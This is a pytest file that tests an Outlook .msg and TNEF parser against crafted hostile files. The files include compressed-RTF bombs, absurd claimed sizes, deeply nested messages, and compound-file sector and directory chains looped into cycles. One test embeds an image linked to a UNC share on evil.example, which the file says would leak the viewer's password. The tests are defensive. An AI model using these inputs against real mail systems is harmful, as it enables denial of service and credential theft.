"""Outlook items and TNEF streams made to exhaust their reader, or to run it in circles."""

from __future__ import annotations

import struct
from collections.abc import Callable
from datetime import UTC, date, datetime

import pytest

from intact.errors import UnreadableReason
from intact.fidelity import LossCode
from intact.limits import EMBEDDED_DEPTH, MIB, RTF_BYTES
from intact.outlook import names
from intact.outlook.tags import Tag
from intact.outlook.tnef.stream import SIGNATURE
from outlook import lzfu, tnef_file
from outlook.calendar.blobs import COUNT, DAILY, series, with_times
from outlook.msgfile import Item, Tree, attached, compound_file, mail, received, recipient

SECTOR = 512
NINE = datetime(2026, 11, 24, 9)  # noqa: DTZ001 - a clock of no zone
END, NONE = 0xFFFFFFFE, 0xFFFFFFFF
_DIRECTORY, _MINI_TABLE, _DIFAT, _TABLES = 0x30, 0x3C, 0x44, 0x4C  # [MS-CFB] 2.2


def with_rtf(value: bytes) -> bytes:
    """An item whose only body is this value of PidTagRtfCompressed."""
    return mail(received(), octets={Tag.COMPRESSED_RTF: value}).file()


def packed_rtf() -> bytes:
    """RTF of tokens alone, packed 8 to 1: each reference repeats the seventeen octets before it."""
    start = b"{\\rtf1 "
    unit = b"{\\b\\i\\u8 ?}{\\v}  "
    text = start.ljust(-len(unit) % 8 + 8) + unit
    runs = [text[place : place + 1] for place in range(len(text))]
    place = len(lzfu._PRELOADED) + len(runs)
    packed = bytearray(lzfu._with_controls(runs))
    for _ in range(RTF_BYTES // 136 + 1_000):
        packed.append(0xFF)
        for _ in range(8):
            packed += struct.pack(">H", (place - 17) % 4096 << 4 | 15)
            place += 17
    return lzfu.value(bytes(packed), RTF_BYTES + MIB)


def in_each_other(depth: int) -> bytes:
    """Messages in each other, as deep as that, without recursion here."""
    tree: Tree = mail(body="innermost").tree("embedded")
    for _ in range(depth):
        inner = Item(texts={Tag.DISPLAY_NAME: "x"}, numbers={Tag.ATTACH_METHOD: 5}).tree("part")
        inner["__substg1.0_3701000D"] = tree
        tree = mail(body="x").tree("embedded") | {"__attach_version1.0_#00000000": inner}
    top = mail(received(), "x").tree("top")
    return compound_file(
        top | {"__attach_version1.0_#00000000": tree["__attach_version1.0_#00000000"]}
    )


def repeated(blob: bytes, **more: object) -> bytes:
    """An appointment whose series is stored as this value."""
    start = datetime(2026, 11, 24, 9, tzinfo=UTC)
    named = {names.START: start, names.RECURRENCE: blob}
    return mail(texts={Tag.MESSAGE_CLASS: "IPM.Appointment"}, named=named, **more).file()


def claimed(pattern: bytes, days: int) -> bytes:
    """The same series, which says that so many of its days are left out."""
    return pattern[:34] + struct.pack("<I", days) + pattern[38:]


SERIES: dict[str, Callable[[], bytes]] = {
    "a day left out for a thousand years": lambda: with_times(
        series(deleted=(date(2026, 11, 30),) * 365_000)
    ),
    "four thousand million days left out": lambda: with_times(
        claimed(series(DAILY, 0, 1_440, ()), 0xFFFFFFFF)
    ),
    "more changes than are written": lambda: with_times(
        series(),
        changes=({"original": NINE, "start": NINE, "end": NINE, "subject": "x" * 255},) * 0xFFFF,
    ),
    "four thousand million instances": lambda: with_times(series(end=COUNT, count=0xFFFFFFFF)),
    "an interval of nothing": lambda: with_times(series(period=0)),
    "an interval without end": lambda: with_times(series(period=0xFFFFFFFF)),
    "the last day there can be": lambda: with_times(series())[:-22] + b"\xff" * 22,
}


@pytest.mark.parametrize("name", SERIES)
def test_a_series_without_end_comes_to_an_end(name, explode):
    """The mail is made; what of the series was left out is told, or the rule says it in a line."""
    outcome = explode(repeated(SERIES[name]()))
    assert outcome.sample is not None
    if name != "four thousand million instances":
        assert LossCode.RECURRENCE_LOST in outcome.codes
    assert len(outcome.sample.data) < MIB


LIMITED: dict[str, tuple[Callable[[], bytes], str]] = {
    "RTF packed 8 to 1": (lambda: with_rtf(packed_rtf()), "rtf_"),
    "5,000 recipients": (
        lambda: mail(body="x", recipients=(recipient("B", "b@example.org"),) * 5_000).file(),
        "recipients",
    ),
    "a stream of 40,000 attributes": (
        lambda: tnef_file.stream(
            mail(received(), "x"), *[tnef_file.attribute(1, 0x00089006, b"\0\0\1\0")] * 40_000
        ),
        "tnef_attributes",
    ),
    "a stream of 5,000 recipients": (
        lambda: tnef_file.stream(
            mail(body="x", recipients=(recipient("B", "b@example.org"),) * 5_000)
        ),
        "recipients",
    ),
    "a header section of 2 MiB": (
        lambda: mail(received() + ("X-Long: " + "x" * 900 + "\r\n") * 2_300, "x").file(),
        "header_bytes",
    ),
}


@pytest.mark.parametrize("name", LIMITED)
def test_a_limit_that_is_reached_is_told(name, explode):
    """The mail is made of what was read, and what was not is named."""
    make, limit = LIMITED[name]
    assert any(told.startswith(limit) for told in explode(make()).limits)


def test_messages_in_each_other_stay_items_of_their_own_where_they_are_too_deep(explode):
    """500 of them: other readers run out of stack at 150."""
    outcome = explode(in_each_other(500))
    assert "embedded_depth" in outcome.limits
    assert max(part.depth for part in outcome.sample.facts.parts) <= 3 * EMBEDDED_DEPTH


def test_as_many_attachments_as_there_may_be_are_kept(explode):
    """2,048 and one more: that one is told."""
    files = (attached(b"x", "a.bin"),) * 2_049
    outcome = explode(mail(received(), "x", attachments=files).file())
    assert LossCode.ATTACHMENTS_LEFT_OUT in outcome.codes
    assert len(outcome.sample.facts.parts) >= 2_048


@pytest.mark.parametrize("kind", [b"MELA", b"LZFu"])
def test_a_size_that_is_only_claimed_takes_no_memory(kind, explode):
    """4 GiB in a value of thirty octets."""
    outcome = explode(with_rtf(lzfu.value(b"{\\rtf1\\ansi hello}", 0xFFFFFFFF, kind, 0)))
    assert outcome.sample is not None
    assert outcome.codes


def test_a_table_of_fonts_without_fonts_is_read_once(explode):
    """A megabyte in which nothing ends: not looked at again from each of its octets."""
    rtf = b"{\\rtf1\\ansi{\\fonttbl " + b"=?" * (MIB // 2)
    outcome = explode(with_rtf(lzfu.value(rtf, len(rtf), b"MELA", 0)))
    assert outcome.sample is not None


def _words(data: bytearray, sector: int) -> list[int]:
    return list(struct.unpack_from("<128I", data, (sector + 1) * SECTOR))


def _put(data: bytearray, sector: int, words: list[int]) -> None:
    struct.pack_into(f"<{len(words)}I", data, (sector + 1) * SECTOR, *words)


def _header(data: bytearray, place: int) -> int:
    return struct.unpack_from("<I", data, place)[0]


def table_loop(data: bytearray) -> None:
    """Every chain of sectors bites its own tail."""
    table = _header(data, _TABLES)
    looped = [
        n if word < 0xFFFFFFFA or word == END else word
        for n, word in enumerate(_words(data, table))
    ]
    _put(data, table, looped)


def mini_table_loop(data: bytearray) -> None:
    """The same for the chains of small streams."""
    table = _header(data, _MINI_TABLE)
    _put(data, table, [n if word != NONE else word for n, word in enumerate(_words(data, table))])


def directory_loop(data: bytearray) -> None:
    """The sectors of the directory follow each other in a ring."""
    table, first = _header(data, _TABLES), _header(data, _DIRECTORY)
    words = _words(data, table)
    last = first
    while words[last] < 0xFFFFFFFA:
        last = words[last]
    words[last] = first
    _put(data, table, words)


def table_of_tables_loop(data: bytearray) -> None:
    """The list of the sectors of the table goes on in a sector that goes on in itself."""
    sector = len(data) // SECTOR - 1
    data += struct.pack("<128I", *([_header(data, _TABLES)] * 127), sector)
    struct.pack_into("<II", data, _DIFAT, sector, 0xFFFFFF)


def sibling_ring(data: bytearray) -> None:
    """Every entry of the directory has the next one to its left and right, and below it."""
    start = (_header(data, _DIRECTORY) + 1) * SECTOR
    for entry in range(1, 4):
        after = entry % 3 + 1
        struct.pack_into("<III", data, start + 128 * entry + 68, after, after, after)


def endless_sizes(data: bytearray) -> None:
    """Every stream claims to be as long as can be said."""
    start = (_header(data, _DIRECTORY) + 1) * SECTOR
    for entry in range(4):
        struct.pack_into("<I", data, start + 128 * entry + 120, 0x7FFFFFFF)


@pytest.mark.parametrize(
    "twist",
    [
        table_loop,
        mini_table_loop,
        directory_loop,
        table_of_tables_loop,
        sibling_ring,
        endless_sizes,
    ],
)
def test_a_file_that_leads_in_circles_comes_to_an_end(twist, explode):
    """It is damaged, or read with that told: never passed for a whole mail without a word."""
    data = bytearray(
        mail(received(), "hello", attachments=(attached(b"x" * 9_000, "a.bin"),)).file()
    )
    twist(data)
    outcome = explode(bytes(data))
    assert outcome.reason is UnreadableReason.DAMAGED or outcome.codes or outcome.limits


def test_a_stream_of_nothing_but_attributes_of_no_length(explode):
    """A million attributes in eleven octets each."""
    outcome = explode(SIGNATURE + b"\1\0" + tnef_file.attribute(1, 0x00088005, b"") * 1_000_000)
    assert outcome.reason is UnreadableReason.DAMAGED or "tnef_attributes" in outcome.limits


def test_a_table_that_claims_more_rows_than_it_has(explode):
    """Four thousand million recipients in four octets."""
    table = tnef_file.attribute(1, 0x00069004, b"\xff" * 4)
    outcome = explode(tnef_file.stream(mail(received(), "x"), table))
    assert LossCode.DAMAGED in outcome.codes or outcome.limits


def test_a_page_on_another_machine_stays_where_it_is(explode):
    """A picture on a share would give away the password of who looks at it."""
    item = mail(received(), html=b'<img src="\\\\evil.example\\x\\y.png">hello')
    assert explode(item.file()).sample.facts.preview.strip() == "hello"
